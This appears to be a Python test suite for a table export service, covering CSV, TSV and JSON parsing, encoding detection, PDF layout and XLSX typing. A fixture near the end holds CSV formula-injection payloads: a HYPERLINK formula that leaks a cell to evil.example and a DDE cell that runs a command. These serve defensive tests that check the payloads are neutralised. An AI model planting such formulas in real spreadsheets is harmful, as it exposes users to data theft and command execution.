"""Tables to PDF, XLSX, CSV and JSON: every cell arrives, in the right encoding, typed where asked."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import openpyxl
import pytest

from exporters.base import CorruptInput, InputFile, InputTooLarge, InvalidOptions, Limits, parse_options
from exporters.tables import (
    CSV_TYPE,
    JSON_TYPE,
    TSV_TYPE,
    TableCsvOptions,
    TableJsonOptions,
    TablePdfOptions,
    TableXlsxOptions,
    detect_encoding,
    sniff_table,
    table_to_csv,
    table_to_json,
    table_to_pdf,
    table_to_xlsx,
    typed_value,
)
from tests.exporters.samples import RUSSIAN, Pdf, as_input, sample

A4 = (595.28, 841.89)


def table_input(path: Path, content_type: str | None = None) -> InputFile:
    """An input as the service would make one once sniff.py calls sniff_table (see exporters.tables)."""
    head = path.read_bytes()[:4096]
    kind = content_type or sniff_table(head, path.name)
    assert kind is not None, f"{path.name} is not recognised as a table"
    return InputFile(path=path, filename=path.name, content_type=kind)


def write_csv(tmp_path: Path, rows: list[list[str]], name: str = "data.csv", **fmt: str) -> Path:
    path = tmp_path / name
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, **fmt).writerows(rows)  # type: ignore[arg-type]
    return path


# -- recognition and reading -----------------------------------------------------------------


def test_sniff_recognises_json_by_content_and_csv_by_extension() -> None:
    assert sniff_table(b'  [\n {"a": 1}]', "export") == JSON_TYPE
    assert sniff_table(b"\xef\xbb\xbf[]", "x.bin") == JSON_TYPE
    assert sniff_table(b"a,b\n1,2\n", "data.CSV") == CSV_TYPE
    assert sniff_table(b"a\tb\n", "data.tsv") == TSV_TYPE
    assert sniff_table("Город;Страна\n".encode("cp1251"), "cities.csv") == CSV_TYPE
    assert sniff_table(b"a,b\n1,2\n", "notes.txt") is None  # prose with commas stays text
    assert sniff_table(b"PK\x03\x04\x00\x00", "data.csv") is None  # binary with a misleading name
    assert sniff_table(b'{"a": 1}', "one.json") is None  # an object is not a table


@pytest.mark.parametrize(
    ("text", "encoding", "expected"),
    [
        (RUSSIAN, "utf-8", "utf-8"),
        (RUSSIAN, "utf-8-sig", "utf-8-sig"),
        (RUSSIAN, "cp1251", "cp1251"),
        ("Voilà l'été, déjà à Noël ; où est la forêt ?", "cp1252", "cp1252"),
        ("Ça coûte 5 €", "cp1252", "cp1252"),
        ("Grüße aus Köln", "latin-1", "cp1252"),  # the same letters in both
    ],
)
def test_encoding_detection(text: str, encoding: str, expected: str) -> None:
    assert detect_encoding(text.encode(encoding)) == expected


def test_cp1251_semicolon_csv_is_detected_and_read(
    out_dir: Path, open_pdf: type[Pdf], limits: Limits
) -> None:
    source = table_input(sample("documents/cities-cp1251.csv"))

    (output,) = table_to_pdf([source], out_dir, TablePdfOptions(), limits=limits)

    assert output.details["encoding"] == "cp1251"
    assert output.details["delimiter"] == ";"
    assert output.details["rows"] == 4
    text = open_pdf(output.path).all_text()
    for cell in ("Город", "Население", "Санкт-Петербург", "Екатеринбург", "13010112", "1723-11-18"):
        assert cell in text


def test_utf8_bom_csv_with_quotes_commas_and_newlines(out_dir: Path, limits: Limits) -> None:
    source = table_input(sample("documents/orders-utf8-bom.csv"))

    (output,) = table_to_json([source], out_dir, TableJsonOptions(), limits=limits)

    records = json.loads(output.path.read_text(encoding="utf-8"))
    assert output.details["encoding"] == "utf-8" and output.details["delimiter"] == ","
    assert list(records[0]) == ["order", "customer", "note", "amount", "date", "zip"]  # no BOM in the key
    assert records[0]["customer"] == "Smith, Ann"
    assert records[1]["note"] == "Two lines:\nfirst and second"
    assert records[2]["customer"] == 'Dr. "Who"'
    assert records[0]["zip"] == "02134"  # CSV cells stay text in JSON


def test_latin1_csv(out_dir: Path, limits: Limits) -> None:
    source = table_input(sample("documents/prices-latin1.csv"))

    (output,) = table_to_json([source], out_dir, TableJsonOptions(), limits=limits)

    records = json.loads(output.path.read_text(encoding="utf-8"))
    assert records[0] == {"produit": "crème brûlée", "prix": "4,50", "catégorie": "dessert"}


def test_stated_encoding_and_delimiter_win(tmp_path: Path, out_dir: Path, limits: Limits) -> None:
    path = tmp_path / "odd.csv"
    path.write_bytes("a|b\nпривет|мир\n".encode("cp1251"))
    options = parse_options(TableJsonOptions, {"encoding": "cp1251", "delimiter": "|"})

    (output,) = table_to_json([table_input(path)], out_dir, options, limits=limits)

    assert json.loads(output.path.read_text(encoding="utf-8")) == [{"a": "привет", "b": "мир"}]


def test_tsv_is_split_at_tabs(out_dir: Path, limits: Limits) -> None:
    (output,) = table_to_json(
        [table_input(sample("documents/people.tsv"))], out_dir, TableJsonOptions(), limits=limits
    )

    records = json.loads(output.path.read_text(encoding="utf-8"))
    assert records[1] == {"name": "Борис", "age": "41", "city": "Казань"}
    assert output.details["delimiter"] == "\t"


def test_csv_without_header(tmp_path: Path, out_dir: Path, limits: Limits) -> None:
    path = write_csv(tmp_path, [["1", "x"], ["2", "y"]])

    (output,) = table_to_json([table_input(path)], out_dir, TableJsonOptions(header=False), limits=limits)

    assert json.loads(output.path.read_text()) == [
        {"column_1": "1", "column_2": "x"},
        {"column_1": "2", "column_2": "y"},
    ]


def test_short_rows_are_padded_and_trailing_delimiters_ignored(
    tmp_path: Path, out_dir: Path, limits: Limits
) -> None:
    path = tmp_path / "ragged.csv"
    path.write_text("a,b,c\n1,2\n3,4,5,\n", encoding="utf-8")

    (output,) = table_to_json([table_input(path)], out_dir, TableJsonOptions(), limits=limits)

    assert json.loads(output.path.read_text()) == [
        {"a": "1", "b": "2", "c": ""},
        {"a": "3", "b": "4", "c": "5"},
    ]


def test_a_row_with_more_fields_than_the_header_fails_with_its_number(
    tmp_path: Path, out_dir: Path, limits: Limits
) -> None:
    rows = [["a", "b"]] + [["1", "2"]] * 300 + [["1", "2", "3"]]
    path = write_csv(tmp_path, rows)

    with pytest.raises(CorruptInput, match="data row 301 has 3 fields"):
        table_to_json([table_input(path)], out_dir, TableJsonOptions(), limits=limits)


def test_invalid_bytes_for_the_stated_encoding_fail_as_corrupt(
    tmp_path: Path, out_dir: Path, limits: Limits
) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(b"a,b\n" + b"1,2\n" * 20_000 + b"\xff\xfe,3\n")

    with pytest.raises(CorruptInput, match="not valid utf-8 text: line 20002, byte 1"):
        table_to_json([table_input(path)], out_dir, TableJsonOptions(encoding="utf-8"), limits=limits)


def test_a_100_mb_line_fails_cleanly_without_being_read_whole(
    tmp_path: Path, out_dir: Path, limits: Limits
) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as file:
        file.write(b"a,b\n1,")
        block = b"x" * (1 << 20)
        for _ in range(100):
            file.write(block)
        file.write(b"\n")

    with pytest.raises(InputTooLarge, match="line 2 is longer than"):
        table_to_pdf([table_input(path)], out_dir, TablePdfOptions(), limits=limits)


def test_an_unclosed_quote_fails_as_too_large_not_as_memory(
    tmp_path: Path, out_dir: Path, limits: Limits
) -> None:
    path = tmp_path / "quote.csv"
    path.write_text('a,b\n1,"never closed\n' + "more text\n" * 20_000, encoding="utf-8")

    with pytest.raises(InputTooLarge, match="longer than"):
        table_to_csv([table_input(path)], out_dir, TableCsvOptions(), limits=limits)


# -- JSON ------------------------------------------------------------------------------------


def test_json_to_csv_keeps_every_key_and_value(out_dir: Path, limits: Limits) -> None:
    source = table_input(sample("documents/people.json"))

    (output,) = table_to_csv([source], out_dir, TableCsvOptions(), limits=limits)

    with output.path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["name", "age", "member", "joined", "tags", "extra"]
    assert rows[1] == ["Ann", "34", "true", "2020-01-31", '["a","b"]', ""]
    assert rows[2][:3] == ["Борис", "41.5", "false"]
    assert rows[3] == ["Ελένη", "", "true", "not a date", "", '{"x":1}']


def test_json_streams_many_objects_across_buffer_boundaries(
    tmp_path: Path, out_dir: Path, limits: Limits
) -> None:
    path = tmp_path / "many.json"
    records = [{"i": i, "text": "ё" * (i % 50)} for i in range(20_000)]
    path.write_text(json.dumps(records, ensure_ascii=False), encoding="utf-8")

    (output,) = table_to_json([table_input(path)], out_dir, TableJsonOptions(), limits=limits)

    assert json.loads(output.path.read_text(encoding="utf-8")) == records


def test_keys_first_seen_late_are_reported(tmp_path: Path, out_dir: Path, limits: Limits) -> None:
    path = tmp_path / "late.json"
    path.write_text(json.dumps([{"a": i} for i in range(500)] + [{"a": 1, "late": 2}]), encoding="utf-8")

    (output,) = table_to_csv([table_input(path)], out_dir, TableCsvOptions(), limits=limits)

    assert output.details["ignored_keys"] == ["late"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('[{"a": 1}, 2]', "item 2 of the array is not an object"),
        ('[{"a": 1}, {"a": ]', "not valid JSON"),
        ('[{"a": 1}', "not valid JSON"),
    ],
)
def test_malformed_json_fails_as_corrupt(
    tmp_path: Path, out_dir: Path, limits: Limits, content: str, message: str
) -> None:
    path = tmp_path / "bad.json"
    path.write_text(content, encoding="utf-8")

    with pytest.raises(CorruptInput, match=message):
        table_to_csv([table_input(path, JSON_TYPE)], out_dir, TableCsvOptions(), limits=limits)


def test_csv_output_options(tmp_path: Path, out_dir: Path, limits: Limits) -> None:
    path = write_csv(tmp_path, [["a", "b"], ["1", "ж"]])

    (output,) = table_to_csv(
        [table_input(path)], out_dir, TableCsvOptions(output_delimiter=";", bom=True), limits=limits
    )

    assert output.path.read_bytes() == "\ufeffa;b\r\n1;ж\r\n".encode()


# -- PDF -------------------------------------------------------------------------------------


def test_header_is_repeated_on_every_page_and_every_row_is_there(
    tmp_path: Path, out_dir: Path, open_pdf: type[Pdf], limits: Limits
) -> None:
    rows = [["№", "Name", "Описание"]] + [[str(i), f"row{i:04d}", f"строка {i}"] for i in range(1, 301)]
    path = write_csv(tmp_path, rows)

    (output,) = table_to_pdf([table_input(path)], out_dir, TablePdfOptions(), limits=limits)

    pdf = open_pdf(output.path)
    assert len(pdf) == output.details["pages"] > 3
    for page in range(len(pdf)):
        assert pdf.text(page).split()[:3] == ["№", "Name", "Описание"]
    text = pdf.all_text()
    for i in range(1, 301):
        assert f"row{i:04d}" in text
    assert pdf.page_size(0) == A4  # three narrow columns fit a portrait page


def test_wide_tables_go_landscape_and_long_cells_wrap_within_their_column(
    tmp_path: Path, out_dir: Path, open_pdf: type[Pdf], limits: Limits
) -> None:
    words = " ".join(f"слово{i}" for i in range(120))
    rows = [["id", "text", "more"], ["1", words, "x" * 300]]
    path = write_csv(tmp_path, rows)

    options = TablePdfOptions(max_cell_lines=40)

    (output,) = table_to_pdf([table_input(path)], out_dir, options, limits=limits)

    pdf = open_pdf(output.path)
    assert pdf.page_size(0) == (A4[1], A4[0])
    text = pdf.all_text()
    assert all(f"слово{i}" in text for i in range(120))  # wrapped, not cut
    assert text.replace("\r\n", "").count("x") >= 300
    page_width = pdf.page_size(0)[0]
    assert all(box[2] <= page_width for _char, box in pdf.char_boxes(0))


def test_cells_longer_than_max_cell_lines_are_cut_with_an_ellipsis(
    tmp_path: Path, out_dir: Path, open_pdf: type[Pdf], limits: Limits
) -> None:
    path = write_csv(tmp_path, [["text"], ["word " * 5000]])

    (output,) = table_to_pdf([table_input(path)], out_dir, TablePdfOptions(max_cell_lines=3), limits=limits)

    assert output.details["cells_cut"] == 1
    text = open_pdf(output.path).all_text()
    assert "…" in text and text.count("word") < 100


def test_user_text_is_never_markup(out_dir: Path, open_pdf: type[Pdf], limits: Limits) -> None:
    source = table_input(sample("documents/orders-utf8-bom.csv"))

    (output,) = table_to_pdf([source], out_dir, TablePdfOptions(), limits=limits)

    text = open_pdf(output.path).all_text()
    assert "<b>not bold</b> & <i>not italic</i>" in text.replace("\r\n", " ")
    assert "Émile Zola" in text and 'Dr. "Who"' in text


def test_page_limit(tmp_path: Path, out_dir: Path) -> None:
    path = write_csv(tmp_path, [["n"]] + [[str(i)] for i in range(2000)])

    with pytest.raises(InputTooLarge, match="more than 3 pages"):
        table_to_pdf([table_input(path)], out_dir, TablePdfOptions(), limits=Limits(max_table_pages=3))


def test_too_many_columns_fail_with_advice(tmp_path: Path, out_dir: Path, limits: Limits) -> None:
    path = write_csv(tmp_path, [[f"c{i}" for i in range(200)], ["1"] * 200])

    with pytest.raises(InputTooLarge, match=r"200 columns.*landscape"):
        table_to_pdf([table_input(path)], out_dir, TablePdfOptions(), limits=limits)


def test_pdf_is_reproducible_and_options_apply(
    tmp_path: Path, out_dir: Path, open_pdf: type[Pdf], limits: Limits
) -> None:
    path = write_csv(tmp_path, [["a", "b"], ["1", "2"]])
    options = parse_options(
        TablePdfOptions, {"page_size": "Letter", "orientation": "landscape", "font_size": 10, "zebra": False}
    )

    (first,) = table_to_pdf([table_input(path)], out_dir, options, limits=limits)
    data = first.path.read_bytes()
    (second,) = table_to_pdf([table_input(path)], out_dir, options, limits=limits)

    assert second.path.read_bytes() == data
    assert open_pdf(first.path).page_size(0) == (792.0, 612.0)


def test_bad_options_are_refused() -> None:
    with pytest.raises(InvalidOptions, match="delimiter must be one of"):
        parse_options(TablePdfOptions, {"delimiter": "x"})
    with pytest.raises(InvalidOptions, match="encoding must be one of"):
        parse_options(TablePdfOptions, {"encoding": "utf-16"})


def test_an_empty_csv_gives_one_page(
    tmp_path: Path, out_dir: Path, open_pdf: type[Pdf], limits: Limits
) -> None:
    path = tmp_path / "empty.csv"
    path.write_bytes(b"")

    (output,) = table_to_pdf([table_input(path, CSV_TYPE)], out_dir, TablePdfOptions(), limits=limits)

    assert len(open_pdf(output.path)) == 1


# -- XLSX ------------------------------------------------------------------------------------


def test_typed_value() -> None:
    assert typed_value("42") == 42 and typed_value("-3.5") == -3.5 and typed_value("1e3") == 1000.0
    assert typed_value("2024-07-14") == dt.date(2024, 7, 14)
    assert typed_value("2024-07-14T09:30:00") == dt.datetime(2024, 7, 14, 9, 30)
    for text in ("02134", "+44 20 7946 0958", "+7", "1234567890123456", "2024-02-30", "4,50", "NaN", "inf"):
        assert typed_value(text) == text


def test_xlsx_has_typed_numbers_and_dates_and_text_where_it_must(out_dir: Path, limits: Limits) -> None:
    source = table_input(sample("documents/orders-utf8-bom.csv"))

    (output,) = table_to_xlsx([source], out_dir, TableXlsxOptions(), limits=limits)

    sheet = openpyxl.load_workbook(output.path).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("order", "customer", "note", "amount", "date", "zip")
    assert rows[1] == (
        1001,
        "Smith, Ann",
        "Leave at the door, please",
        19.99,
        dt.datetime(2024, 7, 14),
        "02134",
    )
    assert rows[2][3] == 1250 and rows[2][1] == "Émile Zola"
    assert rows[3][4] == dt.datetime(2024, 7, 16, 9, 30)
    assert rows[3][5] == "+44 20 7946 0958"
    assert sheet["D2"].data_type == "n" and sheet["E2"].is_date and sheet["F2"].data_type == "s"
    assert sheet.freeze_panes == "A2"


def test_xlsx_from_json_and_untyped(out_dir: Path, tmp_path: Path, limits: Limits) -> None:
    source = table_input(sample("documents/people.json"))
    other_dir = tmp_path / "untyped"
    other_dir.mkdir()

    (typed,) = table_to_xlsx([source], out_dir, TableXlsxOptions(sheet_name="Люди"), limits=limits)
    (untyped,) = table_to_xlsx([source], other_dir, TableXlsxOptions(typed=False), limits=limits)

    sheet = openpyxl.load_workbook(typed.path)["Люди"]
    assert [c.value for c in sheet[2]] == ["Ann", 34, True, dt.datetime(2020, 1, 31), '["a","b"]', None]
    assert sheet["C2"].data_type == "b"
    plain = openpyxl.load_workbook(untyped.path).active
    assert plain is not None
    assert plain["D2"].value == "2020-01-31"


def test_xlsx_cp1251_and_reproducible(out_dir: Path, tmp_path: Path, limits: Limits) -> None:
    source = table_input(sample("documents/cities-cp1251.csv"))

    (first,) = table_to_xlsx([source], out_dir, TableXlsxOptions(), limits=limits)
    data = first.path.read_bytes()
    second_dir = tmp_path / "again"
    second_dir.mkdir()
    (second,) = table_to_xlsx([source], second_dir, TableXlsxOptions(), limits=limits)

    assert second.path.read_bytes() == data
    sheet = openpyxl.load_workbook(first.path).active
    assert sheet is not None
    assert [c.value for c in sheet[2]] == [
        "Москва",
        "Россия",
        13010112,
        "1147-04-04",
    ]  # Excel has no year 1147


def test_bad_sheet_name(out_dir: Path, limits: Limits) -> None:
    source = table_input(sample("documents/people.tsv"))
    with pytest.raises(InvalidOptions, match="sheet_name"):
        table_to_xlsx([source], out_dir, TableXlsxOptions(sheet_name="a/b"), limits=limits)


def test_a_long_table_is_drawn_in_parts_and_joined(
    tmp_path: Path, out_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import pypdfium2

    from exporters import tables

    monkeypatch.setattr(tables, "CHUNK_PAGES", 2)  # parts of 2 pages: the join is exercised
    source = tmp_path / "long.csv"
    source.write_text("id,city\n" + "".join(f"{i},Город {i}\n" for i in range(400)))
    (out,) = tables.table_to_pdf([as_input(source)], out_dir, parse_options(tables.TablePdfOptions, {}),
                                 limits=Limits())  # fmt: skip
    pages = out.details["pages"]
    assert pages > 4
    document = pypdfium2.PdfDocument(out.path)
    assert len(document) == pages
    text = "".join(document[i].get_textpage().get_text_range() for i in range(pages))
    assert "Город 0" in text and "Город 399" in text and text.count("city") == pages  # header on each
    assert sorted(p.name for p in out_dir.iterdir()) == [out.name]  # no part left behind
    pikepdf = pytest.importorskip("pikepdf", reason="pikepdf comes with the dev dependencies (img2pdf)")
    with pikepdf.open(out.path) as joined:
        assert joined.check_pdf_syntax() == [] and len(joined.pages) == pages  # qpdf finds it well formed
    again = tmp_path / "again"
    again.mkdir()
    (twin,) = tables.table_to_pdf([as_input(source)], again, parse_options(tables.TablePdfOptions, {}),
                                  limits=Limits())  # fmt: skip
    assert twin.path.read_bytes() == out.path.read_bytes()


FORMULA_ROWS = [
    ["name", "=1+1"],
    ["link", '=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ["dde", "=cmd|' /C calc'!A0"],
    ["at", "@SUM(A1:A2)"],
    ["plus", "+41 22 123"],
    ["negative", "-12.5"],
    ["positive", "+3"],
    ["plain", "a-b=c"],
]


def _formula_csv(tmp_path: Path) -> Path:
    import csv as csv_module

    path = tmp_path / "formulas.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        csv_module.writer(file).writerows(FORMULA_ROWS)
    return path


def test_csv_to_csv_neutralises_formulas(tmp_path: Path, out_dir: Path, limits: Limits) -> None:
    import csv as csv_module

    (output,) = table_to_csv([table_input(_formula_csv(tmp_path))], out_dir, TableCsvOptions(), limits=limits)

    with output.path.open(newline="", encoding="utf-8") as file:
        rows = list(csv_module.reader(file))
    cells = {row[0]: row[1] for row in rows}
    assert rows[0] == ["name", "'=1+1"]  # the header too
    assert cells["link"] == "'" + FORMULA_ROWS[1][1]
    assert cells["dde"] == "'" + FORMULA_ROWS[2][1]
    assert cells["at"] == "'@SUM(A1:A2)"
    assert cells["plus"] == "'+41 22 123"
    assert cells["negative"] == "-12.5"  # numbers stay numbers
    assert cells["positive"] == "+3"
    assert cells["plain"] == "a-b=c"
    assert output.details["formulas_neutralised"] == 5
    # No cell of the output starts a formula.
    assert not [
        c for row in rows for c in row if c[:1] in "=@" or (c[:1] in "+-" and c not in ("-12.5", "+3"))
    ]


def test_csv_to_csv_keeps_formulas_when_asked(tmp_path: Path, out_dir: Path, limits: Limits) -> None:
    import csv as csv_module

    options = parse_options(TableCsvOptions, {"keep_formulas": True})
    (output,) = table_to_csv([table_input(_formula_csv(tmp_path))], out_dir, options, limits=limits)

    with output.path.open(newline="", encoding="utf-8") as file:
        assert list(csv_module.reader(file)) == FORMULA_ROWS
    assert "formulas_neutralised" not in output.details


def test_json_nested_too_deep_for_the_parser_is_corrupt_input(
    tmp_path: Path, out_dir: Path, limits: Limits
) -> None:
    # json raises RecursionError here, which no list of decode errors names: the read boundary does.
    path = tmp_path / "deep.json"
    path.write_text('[{"a": ' + "[" * 100_000 + "]" * 100_000 + "}]")

    with pytest.raises(CorruptInput, match=r"deep\.json.* cannot be read as a JSON table") as caught:
        table_to_csv([table_input(path)], out_dir, TableCsvOptions(), limits=limits)
    assert isinstance(caught.value.__cause__, RecursionError)
